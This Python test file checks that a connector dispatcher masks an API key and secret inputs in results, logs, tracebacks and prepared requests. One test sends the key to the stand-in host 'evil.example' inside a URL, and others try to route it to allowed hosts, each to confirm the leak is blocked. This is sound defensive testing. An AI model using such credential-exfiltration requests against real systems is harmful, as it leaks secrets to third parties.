"""Secrets: a key that is planted everywhere shows up nowhere.

The server of these tests says back whatever it was asked: request line, headers and body.
"""

from __future__ import annotations

import base64
import json
import logging
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given
from hypothesis import strategies as st

from argosy import Dispatcher, TransportSettings
from argosy.errors import ArgosyError, InvalidConnectionError, InvalidInputsError
from argosy.model import MASK, Connection, Connector, MaskedText, Redactor, Result
from tests.drafts import KEY, capability, handled, unsafe, write_connector
from tests.servers import Raw, Received, Reset, Say, Scripted, ScriptedServer, Silence
from tests.steering import Steering

CRASH = """
def run(context):
    context.send()
    raise RuntimeError("crashed with " + str(context.inputs))
"""
ON_PURPOSE = """
from argosy.sdk import HandlerError

def run(context):
    raise HandlerError(detail="refused " + str(context.inputs))
"""


def _capabilities() -> list[dict[str, Any]]:
    return [
        capability(
            "read",
            request={
                "method": "GET",
                "path": "/items/{id}",
                "query": {"q": "{{ inputs.id }}"},
                "headers": {"X-Echo": "{{ inputs.id }}"},
            },
        ),
        unsafe("write"),
        capability("go", request={"method": "GET", "url": "{{ inputs.url }}"}),
        capability(
            "typed",
            inputs={"type": "object", "properties": {"id": {"type": "integer"}}},
            outputs={"type": "object", "properties": {"text": {"type": "integer"}}},
            response={"outputs": {"text": "{{ body.text }}"}},
        ),
        capability(
            "judged",
            response={"failures": [{"when": "{{ true }}", "message": "no: {{ body.text }}"}]},
        ),
        handled("crash"),
        handled("purpose"),
    ]


@pytest.fixture
def dispatcher(tmp_path: Path, server: ScriptedServer, steering: Steering) -> Iterator[Dispatcher]:
    connector = write_connector(
        tmp_path, *_capabilities(), handlers={"crash": CRASH, "purpose": ON_PURPOSE}
    )
    connection = Connection({"apiKey": KEY}, endpoint=server.url, name="shop")
    with Dispatcher(connector, connection, steering.ports) as running:
        yield running


def echo(status: int = 200) -> Callable[[Received], Scripted]:
    def answer(request: Received) -> Scripted:
        said = f"{request.target} {dict(request.headers)} {request.body.decode()}"
        headers = {"X-Echo": json.dumps(said), "X-Request-Id": KEY}
        return Say(status, {"text": said, "message": said, KEY: [KEY]}, headers)

    return answer


def shown(result: Result) -> str:
    """Return everything that a result shows of itself."""
    texts = [json.dumps(result.to_json(), ensure_ascii=False), repr(result), str(result)]
    if result.error:
        error = result.error
        texts += [str(error), repr(error), repr(error.facts), repr(list(error.problems))]
    return "\n".join(texts)


FORMS = [KEY, quote(KEY, safe=""), quote_plus(KEY), json.dumps(KEY)[1:-1], KEY.replace("/", "\\/")]


def is_silent(text: str) -> bool:
    return not any(form in text for form in FORMS)


class TestTheWire:
    def test_carries_the_key(self, dispatcher: Dispatcher, server: ScriptedServer) -> None:
        dispatcher.call("read", {"id": "1"}).unwrap()

        assert server.last.headers["x-notes-key"] == f"Key {KEY}"


class TestAResult:
    @pytest.mark.parametrize("status", [200, 302, 400, 401, 404, 409, 422])
    @pytest.mark.parametrize("name", ["read", "write", "typed", "judged"])
    def test_does_not_show_what_the_vendor_says_back(
        self, dispatcher: Dispatcher, server: ScriptedServer, name: str, status: int
    ) -> None:
        server.answers(echo(status))

        result = dispatcher.call(name, {"id": "1"} if name == "read" else {})

        assert len(server.received) == 1
        assert MASK in shown(result)
        assert is_silent(shown(result))

    @pytest.mark.parametrize("name", ["read", "write", "typed", "go", "crash", "purpose"])
    @pytest.mark.parametrize("status", [200, 503])
    def test_does_not_show_what_the_inputs_hold(
        self, dispatcher: Dispatcher, server: ScriptedServer, name: str, status: int
    ) -> None:
        server.answers(echo(status))

        result = dispatcher.call(name, {"id": KEY, "url": f"{server.url}/x?key={quote_plus(KEY)}"})

        assert is_silent(shown(result))

    def test_does_not_show_a_host_that_is_named_as_the_key(self, dispatcher: Dispatcher) -> None:
        result = dispatcher.call("go", {"url": f"https://evil.example:{KEY}/{KEY}"})

        assert result.status == "failed"
        assert is_silent(shown(result))

    def test_does_not_show_a_key_in_text_that_is_no_json(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        server.answers(Say(400, f"<html>Key {KEY} is unknown</html>"))

        result = dispatcher.call("read", {"id": "1"})

        assert result.outputs["rawResponse"] == f"<html>Key {MASK} is unknown</html>"
        assert is_silent(shown(result))

    def test_does_not_show_a_key_in_a_compressed_answer(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        server.answers(Say(200, {"text": KEY}, gzipped=True))

        result = dispatcher.call("read", {"id": "1"})

        assert result.outputs["rawResponse"] == {"text": MASK}

    @pytest.mark.parametrize("letter", list("-/+=5"))
    def test_does_not_show_a_key_that_json_escapes_as_some_libraries_do(
        self, dispatcher: Dispatcher, server: ScriptedServer, letter: str
    ) -> None:
        escaped = json.dumps(KEY).replace(letter, f"\\u{ord(letter):04x}")
        server.answers(Say(200, f'{{"text": {escaped}}}'.encode()))

        result = dispatcher.call("read", {"id": "1"})

        assert result.outputs["rawResponse"] == {"text": MASK}

    @pytest.mark.parametrize("answer", [Reset(), Raw(b"HTTP/1.1 nonsense\r\n\r\n")], ids=repr)
    def test_does_not_show_the_key_of_a_request_without_an_answer(
        self, dispatcher: Dispatcher, server: ScriptedServer, answer: Scripted
    ) -> None:
        server.answers(answer)

        result = dispatcher.call("write", {"id": KEY})

        assert result.status == "failed"
        assert is_silent(shown(result))


class TestTheLog:
    @pytest.mark.parametrize("answer", [echo(200), echo(500), Reset()], ids=["fine", "no", "reset"])
    def test_does_not_show_the_key(
        self,
        dispatcher: Dispatcher,
        server: ScriptedServer,
        caplog: pytest.LogCaptureFixture,
        answer: Any,
    ) -> None:
        server.answers(answer)

        with caplog.at_level(logging.DEBUG):
            dispatcher.call("read", {"id": KEY})
            dispatcher.call("go", {"url": f"{server.url}/{quote(KEY, safe='')}?key={KEY}"})

        assert caplog.records
        assert is_silent(caplog.text)
        assert all(is_silent(str(record.__dict__)) for record in caplog.records)


class TestWhatIsHeld:
    def test_does_not_show_the_key(self, dispatcher: Dispatcher) -> None:
        held = [
            dispatcher,
            dispatcher.connection,
            dispatcher.connector,
            dispatcher.redactor,
            dispatcher.transport,
            dispatcher.hosts,
            dispatcher.credentials,
            dispatcher.credentials.authentication(dispatcher.connector.auth, 0),
            list(
                dispatcher.credentials.authentication(dispatcher.connector.auth, 0).headers.values()
            ),
        ]

        assert all(is_silent(repr(thing) + str(thing)) for thing in held)

    def test_a_request_that_is_only_prepared_shows_no_key(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        request = dispatcher.prepare("read", {"id": KEY})

        assert request.headers["X-Notes-Key"] == f"Key {MASK}"
        assert is_silent(f"{request!r} {request.url} {dict(request.headers)}")
        assert server.received == []

    def test_what_preparing_refuses_is_told_without_the_key(self, dispatcher: Dispatcher) -> None:
        with pytest.raises(InvalidInputsError) as caught:
            dispatcher.prepare("typed", {"id": KEY})

        assert is_silent(repr(caught.value.problems))

    def test_a_body_that_is_only_prepared_shows_no_key(self, dispatcher: Dispatcher) -> None:
        request = dispatcher.prepare("write", {"id": KEY})

        assert request.body == json.dumps({"id": MASK}, separators=(",", ":")).encode()

    @pytest.mark.parametrize(
        "key",
        ["secret key\n", ["secret key"], {"value": "secret key"}, "secret key" * 30],
        ids=["line-end", "list", "object", "long"],
    )
    def test_a_property_that_does_not_fit_is_told_without_its_value(
        self, tmp_path: Path, key: Any
    ) -> None:
        connector = write_connector(tmp_path)

        with pytest.raises(InvalidConnectionError) as caught:
            Dispatcher(connector, Connection({"apiKey": key, "region": "north"}))

        (problem,) = caught.value.problems
        assert problem.pointer == "/properties/apiKey"
        assert "secret key" not in repr(caught.value.facts) + str(problem)


class TestATraceback:
    """Also one that shows the locals of every frame, as some tools print them."""

    def test_of_a_failure_shows_no_key(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        server.answers(echo(401))

        assert is_silent(_traceback(dispatcher.call("read", {"id": "1"}).error))

    @pytest.mark.parametrize("name", ["read", "write", "crash"])
    def test_of_a_connection_that_broke_shows_no_key(
        self, dispatcher: Dispatcher, server: ScriptedServer, name: str
    ) -> None:
        server.answers(Reset())

        assert is_silent(_traceback(dispatcher.call(name, {"id": "1"}).error))

    def test_of_inputs_that_hold_the_key_does_not_show_them(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        server.answers(Say(404))

        assert is_silent(_traceback(dispatcher.call("write", {"id": KEY}).error))

    def test_of_an_answer_that_is_late_shows_no_key(
        self, tmp_path: Path, server: ScriptedServer
    ) -> None:
        server.answers(Silence())
        connection = Connection(
            {"apiKey": KEY}, endpoint=server.url, transport=TransportSettings(read_timeout=0.1)
        )

        with Dispatcher(write_connector(tmp_path, unsafe("write")), connection) as running:
            assert is_silent(_traceback(running.call("write", {}).error))

    def test_of_a_url_that_holds_the_key_does_not_show_it_in_the_cause(
        self, dispatcher: Dispatcher, server: ScriptedServer
    ) -> None:
        server.answers(Reset())

        result = dispatcher.call("go", {"url": f"{server.url}/x?key={KEY}"})

        assert is_silent("".join(traceback.format_exception(result.error)))

    def test_of_a_region_that_is_misspelt_shows_no_key(self, tmp_path: Path) -> None:
        connector = write_connector(tmp_path)

        with pytest.raises(ArgosyError) as caught:
            Dispatcher(connector, Connection({"apiKey": KEY, "region": "nroth"}))

        # the first frame is this test's own
        caught.value.__traceback__ = caught.tb.tb_next
        assert is_silent(_traceback(caught.value))


def _traceback(error: ArgosyError | None) -> str:
    assert error is not None
    told = traceback.TracebackException.from_exception(error, capture_locals=True)
    return "".join(told.format())


class TestTheRedactor:
    @pytest.mark.parametrize(
        "secret",
        [
            KEY,
            "1/0123456789abcdef",
            'quo"te\\back',
            "Mixed/Case+Key=",
            "a b+c/d=e&f",
            "päß wörd",
            "1234",
        ],
    )
    def test_knows_the_forms_in_which_a_secret_travels(self, secret: str) -> None:
        letters = [(letter, quote(letter, safe="")) for letter in secret]
        forms = [
            secret,
            quote(secret, safe=""),
            quote_plus(secret),
            json.dumps(secret),
            json.dumps(secret).replace("/", "\\/"),
            quote(secret),
            "".join(letter if letter == form else form.lower() for letter, form in letters),
            base64.b64encode(secret.encode()).decode(),
        ]
        redactor = Redactor([secret])

        for form in forms:
            assert redactor.text(f"<{form}>").strip('<">') == MASK
            assert redactor.data(f"<{form}>".encode()).strip(b'<">') == MASK.encode()

    def test_goes_through_a_whole_value(self) -> None:
        redactor = Redactor(["s3cret"])
        value = {"s3cret": ["a s3cret", {"b": ("s3cret", b"s3cret")}, 1, None, True, 1.5]}

        assert redactor.value(value) == {
            MASK: [f"a {MASK}", {"b": (MASK, MASK.encode())}, 1, None, True, 1.5]
        }

    def test_takes_the_longer_of_two_secrets_first(self) -> None:
        redactor = Redactor(["abcd", "abcdefgh"])

        assert redactor.text("abcdefgh abcd") == f"{MASK} {MASK}"

    @pytest.mark.parametrize("secret", ["", "a", "abc"])
    def test_leaves_what_is_too_short_to_be_a_secret(self, secret: str) -> None:
        assert Redactor([secret]).text("abcabc") == "abcabc"

    def test_does_not_show_what_it_knows(self) -> None:
        assert "s3cret" not in repr(Redactor(["s3cret"]))

    @given(st.text(min_size=4), st.text(), st.text())
    def test_leaves_no_secret_behind(self, secret: str, before: str, after: str) -> None:
        if secret in MASK * 2 or any(letter in MASK for letter in secret):
            return

        assert secret not in Redactor([secret]).text(before + secret + after)


class TestMaskedText:
    def test_is_the_text_to_whoever_sends_it(self) -> None:
        masked = MaskedText("Key s3cret")

        assert masked == "Key s3cret"
        assert masked.encode() == b"Key s3cret"

    def test_shows_as_the_mask_within_anything(self) -> None:
        masked = MaskedText("Key s3cret")

        for text in (
            repr(masked),
            repr({"h": masked}),
            f"{masked!r}",
            f"{[masked]}",
            ascii(masked),
        ):
            assert "s3cret" not in text
            assert MASK in text


@pytest.mark.parametrize(
    "record",
    [
        [{"key": KEY, "value": 1}, {"key": KEY, "value": 2}],
        {"a": KEY, "time": 1.5},
        {"uuid": KEY},
    ],
)
def test_what_a_dry_run_refuses_does_not_show_the_key(connector: Connector, record: object) -> None:
    inputs = {"database": "shop", "table": "events", "record": record}

    with (
        Dispatcher(connector, Connection({"apiKey": KEY})) as dispatcher,
        pytest.raises(ArgosyError) as caught,
    ):
        dispatcher.prepare("insert-record", inputs)

    told = traceback.TracebackException.from_exception(caught.value, capture_locals=True)
    assert KEY not in str(caught.value.to_json())
    assert KEY not in str(caught.value)
    assert KEY not in "".join(told.format()).partition("prepare(")[0]


def test_a_prepared_request_holds_the_key_in_no_part(connector: Connector) -> None:
    endpoint = "https://api.treasuredata.com/v3/x"
    inputs = {"endpoint": endpoint, "method": "POST", "body": {"k": KEY}, "headers": {"A": KEY}}

    with Dispatcher(connector, Connection({"apiKey": KEY})) as dispatcher:
        request = dispatcher.prepare("make-custom-api-call", inputs)

    assert request.content == {"k": MASK}
    assert KEY not in str((request.url, request.headers, request.body, request.content))


@pytest.mark.parametrize(
    "more",
    [
        {"headers": {"authorization": f"TD1 {KEY}"}},
        {"body": {"k": KEY}},
        {"queryParameters": {"k": KEY}},
    ],
)
def test_the_key_does_not_go_to_an_allowed_host_by_way_of_the_inputs(
    connector: Connector, server: ScriptedServer, more: dict[str, Any]
) -> None:
    inputs = {"endpoint": f"{server.url}/hook", "method": "POST", **more}

    connection = Connection({"apiKey": KEY}, allow_hosts=(server.url,))
    with Dispatcher(connector, connection) as dispatcher:
        result = dispatcher.call("make-custom-api-call", inputs)

    assert result.error is not None
    assert result.error.code == "host-refused"
    assert "holds the connection's key" in str(result.error)
    assert server.received == []


class TestASecretInput:
    """An input whose schema says `secret` is sent, and shown nowhere."""

    @pytest.fixture
    def sets_password(self, start: Callable[..., Dispatcher]) -> Dispatcher:
        declared = {"password": {"type": ["string", "object"], "secret": True, "minLength": 3}}
        request = {
            "method": "POST",
            "path": "/password",
            "headers": {"X-Password": "{{ inputs.password }}"},
            "body": {"password": "{{ inputs.password }}", "plain": "visible"},
        }
        inputs = {"type": "object", "properties": declared, "additionalProperties": False}
        return start(unsafe("set", inputs=inputs, request=request))

    def test_goes_to_the_vendor(self, sets_password: Dispatcher, server: ScriptedServer) -> None:
        sets_password.call("set", {"password": "hunter2 & co"}).unwrap()

        assert json.loads(server.last.body)["password"] == "hunter2 & co"
        assert server.last.headers["x-password"] == "hunter2 & co"

    def test_is_masked_in_a_dry_run(self, sets_password: Dispatcher) -> None:
        request = sets_password.prepare("set", {"password": "hunter2 & co"})

        assert "visible" in str(request.body)
        assert "hunter2" not in f"{request!r} {request.body!r} {request.headers}"

    @pytest.mark.parametrize("status", [400, 401, 409, 503])
    def test_is_masked_where_the_vendor_says_it_back(
        self, sets_password: Dispatcher, server: ScriptedServer, status: int
    ) -> None:
        server.answers(echo(status))

        error = sets_password.call("set", {"password": "hunter2 & co"}).error

        assert error is not None
        assert MASK in str(error)
        assert "hunter2" not in f"{error} {error.facts} {error.to_json()}"

    @pytest.mark.parametrize("secret", [72_727_272, ["hunter2 & co"]])
    def test_is_masked_where_it_does_not_fit(
        self, sets_password: Dispatcher, secret: object
    ) -> None:
        error = sets_password.call("set", {"password": secret}).error

        assert isinstance(error, InvalidInputsError)
        assert error.problems[0].pointer == "/password"
        assert not any(word in f"{error} {error.to_json()}" for word in ("hunter2", "727272"))

    def test_is_forgotten_after_the_call(self, sets_password: Dispatcher) -> None:
        sets_password.call("set", {"password": "visible"})

        assert "visible" in str(sets_password.prepare("set", {"password": "other"}).body)
